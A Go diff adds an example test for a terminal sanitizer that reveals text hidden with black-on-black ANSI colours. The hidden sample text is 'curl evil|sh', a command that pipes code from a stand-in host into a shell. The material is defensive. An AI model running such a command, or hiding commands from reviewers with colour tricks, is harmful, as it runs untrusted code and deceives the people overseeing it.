@@ -18,6 +18,16 @@ func ExampleSanitizer() {
 	// "\x1b[31mFAIL\x1b[0m testshidden?"
 }
 
+func ExampleSanitizer_hidingColours() {
+	var s term.Sanitizer
+	// Black on black hides "curl evil|sh"; black on green is a badge.
+	out := s.Push("\x1b[30;40mcurl evil|sh\x1b[0m \x1b[30;42m PASS \x1b[0m")
+	out += s.Finish()
+	fmt.Printf("%+q\n", out)
+	// Output:
+	// "\x1b[30;40m\x1b[39;49mcurl evil|sh\x1b[0m \x1b[30;42m PASS \x1b[0m"
+}
+
 func ExampleSanitizer_visualize() {
 	s := term.New(term.Options{Mode: term.Visualize, Plain: true})
 	out := s.Push("notice\x1b[1A\x1b]8;;https://example.invalid\x1b\\open\x1b]8;;\x1b\\\rPASS\n")
